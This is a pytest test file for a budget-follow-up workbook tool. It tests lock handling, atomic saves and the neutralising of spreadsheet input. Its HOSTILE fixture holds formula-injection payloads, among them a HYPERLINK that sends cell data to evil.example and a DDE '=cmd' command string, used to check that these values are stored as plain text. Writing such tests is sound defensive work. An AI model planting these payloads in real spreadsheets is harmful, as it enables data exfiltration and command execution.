"""Nothing lost, nothing run: atomic writes, the workspace lock, a master open in
Excel or LibreOffice, and what a centre typed arriving in the master as plain values."""

from __future__ import annotations

import contextlib
import os
import re
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from returns import ECONOMY, SMILEY, STATUS, AsText, Typed, fill
from test_libreoffice import MISSING, SYSTEM_PYTHON, free_port

import xlfollow.files
from xlfollow.answers import Field
from xlfollow.cli.main import cli
from xlfollow.errors import WorkspaceError
from xlfollow.ledger.store import Ledger
from xlfollow.messages import Language
from xlfollow.workspace.folder import Workspace

SOS = "outbox/round-1/03-social-og-sundhed-runde-1.xlsx"


@pytest.fixture
def ws(tmp_path: Path) -> Workspace:
    workspace = Workspace.init(tmp_path / "ws", "ballerup-2018")
    workspace.issue("1")
    fill(workspace.path / SOS, workspace.path / "inbox" / "a.xlsx", {("3.01", SMILEY): "grøn"})
    workspace.merge()
    return workspace


def ledger_answers(workspace: Workspace) -> dict[tuple[str, str, Field], str]:
    with Ledger(workspace.ledger_place) as ledger:
        return ledger.answers()


HOLD = """
import sys, time
from pathlib import Path
from xlfollow.files import locked
with locked(Path(sys.argv[1]), "merge"):
    print("held", flush=True)
    time.sleep(30)
"""


def test_a_second_merge_is_told_another_command_holds_the_workspace(ws: Workspace) -> None:
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(ws.path)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        fill(ws.path / SOS, ws.path / "inbox" / "b.xlsx", {("3.01", SMILEY): "rød"})
        result = CliRunner().invoke(cli, ["merge", str(ws.path)])
        assert result.exit_code == 1
        assert f"xlfollow merge (process {holder.pid}, since " in result.stderr
        assert "is changing this workspace; wait for it to finish" in result.stderr
        assert ledger_answers(ws)[("1. budgetopfølgning 2018", "3.01", Field.MILESTONE)] == "met"
    finally:
        holder.kill()
        holder.wait()
    # Once the holder is gone, so is its lock (even though it was killed).
    assert ws.merge().files[0].verdict == "accepted"


def test_a_master_open_in_excel_stops_the_merge_before_the_ledger_changes(
    ws: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    master = ws.path / "master.xlsx"
    before = master.read_bytes()
    answers = ledger_answers(ws)

    def shared_violation(path: Path) -> object:
        raise PermissionError(13, "The process cannot access the file", str(path))

    # Excel on Windows keeps the file open without sharing it for writing.
    monkeypatch.setattr(xlfollow.files, "_open_for_update", shared_violation)
    fill(ws.path / SOS, ws.path / "inbox" / "b.xlsx", {("3.01", SMILEY): "rød"})
    with pytest.raises(WorkspaceError, match="open in another program \\(Excel\\?\\)"):
        ws.merge()
    assert master.read_bytes() == before
    assert ledger_answers(ws) == answers
    with Ledger(ws.ledger_place) as ledger:
        assert [r.file for r in ledger.receipts()] == ["inbox/a.xlsx"]


def refused_merge(workspace: Workspace) -> WorkspaceError:
    """Merge a new return where the merge must refuse; check that nothing changed."""
    master = workspace.path / "master.xlsx"
    before, answers = master.read_bytes(), ledger_answers(workspace)
    fill(workspace.path / SOS, workspace.path / "inbox" / "b.xlsx", {("3.01", SMILEY): "rød"})
    with pytest.raises(WorkspaceError) as refused:
        workspace.merge()
    assert master.read_bytes() == before
    assert ledger_answers(workspace) == answers
    with Ledger(workspace.ledger_place) as ledger:
        assert [r.file for r in ledger.receipts()] == ["inbox/a.xlsx"]
    return refused.value


# LibreOffice's lock file as it writes one: a line of UTF-8 without a newline; the
# name from its options (a comma in it escaped), system user, host, when, profile.
LIBREOFFICE_LOCK = "Mette Lund\\, Økonomi,mlund,okonomi-pc,03.05.2018 09:15,file:///home/mlund/.config/libreoffice/4;".encode()
# A new installation has no name in its options.
LIBREOFFICE_LOCK_NO_NAME = (
    b",mlund,okonomi-pc,03.05.2018 09:15,file:///home/mlund/.config/libreoffice/4;"
)


def excel_owner_file(name: str) -> bytes:
    """Excel's owner file (~$NAME) for a user, as LibreOffice writes it in Excel's format
    (the real-LibreOffice test below compares one byte for byte): the name's length and
    the name in the Windows code page ("?" for a letter it lacks), spaces to byte 55, then
    the length again (two bytes) and the name in UTF-16, padded with UTF-16 spaces to 165
    bytes."""
    wide = name.encode("utf-16-le")
    return (
        bytes([len(name)])
        + name.encode("cp1252", errors="replace").ljust(54, b" ")
        + bytes([len(name), 0])
        + (wide + b" \x00" * 54)[:108]
    )


@pytest.mark.parametrize(
    ("lock", "content", "program", "opened"),
    [
        (
            ".~lock.master.xlsx#",
            LIBREOFFICE_LOCK,
            "LibreOffice",
            "Mette Lund, Økonomi has had it open in LibreOffice since 03.05.2018 09:15",
        ),
        (
            ".~lock.master.xlsx#",
            LIBREOFFICE_LOCK_NO_NAME,
            "LibreOffice",
            "mlund has had it open in LibreOffice since 03.05.2018 09:15",
        ),
        (
            "~$master.xlsx",
            excel_owner_file("Mette Lund Østergård"),
            "Excel",
            "Mette Lund Østergård has it open in Excel",
        ),
        (
            "~$master.xlsx",
            excel_owner_file("Zofia Łukasiewicz"),  # Ł is not in the Windows code page
            "Excel",
            "Zofia Łukasiewicz has it open in Excel",
        ),
        (
            "~$master.xlsx",
            excel_owner_file("Mette Lund")[:40],  # cut short: the first copy of the name
            "Excel",
            "Mette Lund has it open in Excel",
        ),
    ],
    ids=["libreoffice", "libreoffice-without-a-name", "excel", "excel-unicode", "excel-cut-short"],
)
def test_a_master_open_in_an_office_program_stops_the_merge_naming_who(
    ws: Workspace, lock: str, content: bytes, program: str, opened: str
) -> None:
    (ws.path / lock).write_bytes(content)
    refused = refused_merge(ws)
    lock_path = ws.path / lock
    assert str(refused) == (
        f"{ws.path / 'master.xlsx'} cannot be replaced: {opened} (its lock file {lock_path} "
        f"says so). Close it in {program} and run the command again; nothing has been "
        f"changed. If nobody has it open ({program} stopped without closing it), delete "
        f"{lock_path} and run the command again."
    )
    assert lock_path.read_bytes() == content
    # Once the program has closed the master, and its lock file is gone, the merge goes on.
    lock_path.unlink()
    assert ws.merge().files[0].verdict == "accepted"


def test_the_refusal_is_said_in_danish(ws: Workspace) -> None:
    (ws.path / ".~lock.master.xlsx#").write_bytes(LIBREOFFICE_LOCK)
    refused = refused_merge(ws)
    lock = ws.path / ".~lock.master.xlsx#"
    assert refused.say(Language.DA) == (
        f"{ws.path / 'master.xlsx'} kan ikke erstattes: Mette Lund, Økonomi har haft den åben i "
        f"LibreOffice siden 03.05.2018 09:15 (ifølge låsefilen {lock}). Luk den i "
        f"LibreOffice, og kør kommandoen igen; intet er ændret. Hvis ingen har den åben "
        f"(LibreOffice stoppede uden at lukke den), så slet {lock}, og kør kommandoen igen."
    )


@pytest.mark.parametrize(
    ("lock", "content", "program"),
    [
        (".~lock.master.xlsx#", b"", "LibreOffice"),
        (".~lock.master.xlsx#", b"\x00\xff\xfe not a lock file", "LibreOffice"),
        ("~$master.xlsx", b"", "Excel"),
        ("~$master.xlsx", b"\x00" * 165, "Excel"),  # no name's length
        ("~$master.xlsx", None, "Excel"),  # a folder: what even root cannot read as a file
    ],
    ids=["libreoffice-empty", "libreoffice-garbage", "excel-empty", "excel-zeros", "unreadable"],
)
def test_an_empty_or_unreadable_lock_file_still_stops_the_merge(
    ws: Workspace, lock: str, content: bytes | None, program: str
) -> None:
    lock_path = ws.path / lock
    if content is None:
        lock_path.mkdir()
    else:
        lock_path.write_bytes(content)
    refused = refused_merge(ws)
    assert str(refused).startswith(
        f"{ws.path / 'master.xlsx'} cannot be replaced: it is open in {program} "
        f"(its lock file {lock_path} says so). Close it in {program} and run the command again"
    )
    assert f"delete {lock_path} and run the command again." in str(refused)


def test_lock_files_of_other_documents_do_not_stop_the_merge(ws: Workspace) -> None:
    others = [
        ".~lock.agreement.yaml#",  # the agreement open in LibreOffice
        "~$Oversigt.xlsx",
        "~$ster.xlsx",  # what Word would call master.xlsx's owner file; Excel keeps the name
        "outbox/round-1/.~lock.master.xlsx#",  # the master as issued, not the workspace's
        "outbox/round-1/~$master.xlsx",
        "inbox/.~lock.b.xlsx#",  # the return itself: it is only read
    ]
    for name in others:
        content = excel_owner_file("Mette Lund") if "~$" in name else LIBREOFFICE_LOCK
        (ws.path / name).write_bytes(content)
    master = ws.path / "master.xlsx"
    before = master.read_bytes()
    fill(ws.path / SOS, ws.path / "inbox" / "b.xlsx", {("3.01", SMILEY): "rød"})
    assert ws.merge().files[0].verdict == "accepted"
    assert master.read_bytes() != before


LIBREOFFICE_FOLDER = Path(__file__).parent / "libreoffice"

# Opens a workbook in a private headless LibreOffice with a user's name in its
# options, says "open", waits for a line on stdin, closes it and says "closed".
OPEN_IN_LIBREOFFICE = """
import signal, sys
sys.path.insert(0, sys.argv[3])
from office import connect, load, office, prop

signal.alarm(180)  # never left hanging
workbook, port = sys.argv[1], sys.argv[2]
with office(port) as desktop:
    context = connect(port)
    provider = context.ServiceManager.createInstanceWithContext(
        "com.sun.star.configuration.ConfigurationProvider", context
    )
    def options(node, **values):
        access = provider.createInstanceWithArguments(
            "com.sun.star.configuration.ConfigurationUpdateAccess", (prop("nodepath", node),)
        )
        for key, value in values.items():
            access.setPropertyValue(key, value)
        access.commitChanges()
    options("/org.openoffice.UserProfile/Data", givenname="Mette", sn="Lund, Økonomi")
    # Also the owner file Excel would write, in Excel's format.
    options("/org.openoffice.Office.Common/Filter/Microsoft/Import", CreateMSOLockFiles=True)
    document = load(desktop, workbook)
    print("open", flush=True)
    sys.stdin.readline()
    document.close(True)
print("closed", flush=True)
"""


@pytest.mark.skipif(bool(MISSING), reason=MISSING)
def test_a_master_open_in_libreoffice_itself_stops_the_merge(ws: Workspace, tmp_path: Path) -> None:
    master = ws.path / "master.xlsx"
    scratch = tmp_path / "libreoffice"  # its profile and temporary files, not in /tmp
    scratch.mkdir()
    helper = subprocess.Popen(
        [
            SYSTEM_PYTHON,
            "-c",
            OPEN_IN_LIBREOFFICE,
            str(master),
            str(free_port()),
            str(LIBREOFFICE_FOLDER),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "TMPDIR": str(scratch)},
        start_new_session=True,
    )
    lock = ws.path / ".~lock.master.xlsx#"
    try:
        assert helper.stdin is not None and helper.stdout is not None
        assert helper.stdout.readline() == "open\n"
        message = str(refused_merge(ws))
        since = re.search(r" since (\d\d\.\d\d\.\d{4} \d\d:\d\d) \(", message)
        assert since is not None, message
        assert message == (
            f"{master} cannot be replaced: Mette Lund, Økonomi has had it open in LibreOffice "
            f"since {since[1]} (its lock file {lock} says so). Close it in LibreOffice and run "
            f"the command again; nothing has been changed. If nobody has it open (LibreOffice "
            f"stopped without closing it), delete {lock} and run the command again."
        )
        # The owner file in Excel's format is the one the tests above write for Excel.
        assert (ws.path / "~$master.xlsx").read_bytes() == excel_owner_file("Mette Lund, Økonomi")
        helper.stdin.write("close\n")
        helper.stdin.flush()
        assert helper.stdout.readline() == "closed\n"
    finally:
        # Whatever is left of LibreOffice is in the helper's process group; the helper is
        # not reaped yet, so the group's id cannot have passed to another process.
        with contextlib.suppress(ProcessLookupError):
            os.killpg(helper.pid, signal.SIGKILL)
        helper.wait()
    # Closing the master, LibreOffice removed its lock files: the merge goes on.
    assert not lock.exists() and not (ws.path / "~$master.xlsx").exists()
    assert ws.merge().files[0].verdict == "accepted"


KILL_DURING_SAVE = """
import os, sys
from pathlib import Path
import xlfollow.files
from xlfollow.workspace.folder import Workspace

def killed(source, target):
    os._exit(9)  # the new master is written and synced, but not yet in place

xlfollow.files.os.replace = killed
Workspace(Path(sys.argv[1])).write_master()
"""


def test_a_master_save_killed_half_way_leaves_the_old_master(ws: Workspace) -> None:
    master = ws.path / "master.xlsx"
    before = master.read_bytes()
    run = subprocess.run([sys.executable, "-c", KILL_DURING_SAVE, str(ws.path)], check=False)
    assert run.returncode == 9
    assert master.read_bytes() == before
    assert "Overblik" in openpyxl.load_workbook(master, read_only=True).sheetnames
    (stray,) = [p.name for p in ws.path.iterdir() if p.name.endswith(".partial")]
    assert stray.startswith(".master.xlsx.")
    # The next command that changes the workspace clears it away.
    ws.summary()
    assert [p for p in ws.path.iterdir() if p.name.endswith(".partial")] == []


def test_a_written_workbook_that_does_not_read_back_is_not_put_in_place(tmp_path: Path) -> None:
    target = tmp_path / "master.xlsx"
    target.write_bytes(b"old")
    with pytest.raises(OSError, match="does not read back"):
        xlfollow.files.write_atomically(target, b"PK\x03\x04 not a zip")
    assert target.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["master.xlsx"]


HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Klik her")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+SUM(1,2)",
    "at": "@SUM(1)",
    "link": "http://evil.example/phish",
    "tab": "\tindrykket",
    "control": "CONTROL",  # becomes control characters in the file's XML, below
}


def with_control_characters(path: Path) -> None:
    """Put control characters in a saved workbook the way the format escapes them."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    (name,) = [name for name, data in parts.items() if b">CONTROL<" in data]
    parts[name] = parts[name].replace(b">CONTROL<", b">Status_x0001_med_x0007_tegn<")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_what_a_centre_typed_reaches_the_master_as_plain_text(ws: Workspace) -> None:
    items = ["3.01", "3.33.1", "3.33.2", "3.33.3", "4.02", "4.03", "4.04"]  # Social og Sundhed's
    typed: dict[tuple[str, str], Typed] = {
        (item, STATUS): AsText(text) for item, text in zip(items, HOSTILE.values(), strict=True)
    }
    typed[("3.01", ECONOMY)] = "grøn"
    returned = fill(ws.path / SOS, ws.path / "inbox" / "hostile.xlsx", typed)
    with_control_characters(returned)
    (file,) = ws.merge([returned]).files
    assert file.verdict == "accepted", file.reason
    assert file.cells["refused"] == 0, file.problems
    # Each text that a spreadsheet could take for a formula is named in the report.
    flagged = [n for n in file.notes if "kept and shown as text, never as a formula" in str(n)]
    assert len(flagged) == 5, file.notes  # =, =, +, @ and the tab
    stored = ledger_answers(ws)
    round_name = "1. budgetopfølgning 2018"
    assert stored[(round_name, "3.01", Field.MILESTONE_NOTE)] == HOSTILE["formula"]
    master = ws.path / "master.xlsx"
    book = openpyxl.load_workbook(master)
    chapters = [book[name] for name in book.sheetnames if name[0].isdigit()]
    shown = set()
    for chapter in chapters:  # every chapter sheet: where the centres' texts are shown
        for row in chapter.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (chapter.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (chapter.title, cell.coordinate)
                shown.add(str(cell.value))
    assert {HOSTILE["formula"], HOSTILE["dde"], HOSTILE["link"], HOSTILE["at"]} <= shown
    # The control characters are stored escaped, so the workbook stays valid XML.
    with zipfile.ZipFile(master) as archive:
        assert archive.testzip() is None
        strings = archive.read("xl/sharedStrings.xml")
        rels = [archive.read(n) for n in archive.namelist() if n.endswith(".rels")]
    assert b"\x01" not in strings and b"_x0001_" in strings
    # No part of the master links anywhere but to its own sheets.
    assert not any(b'TargetMode="External"' in r for r in rels)
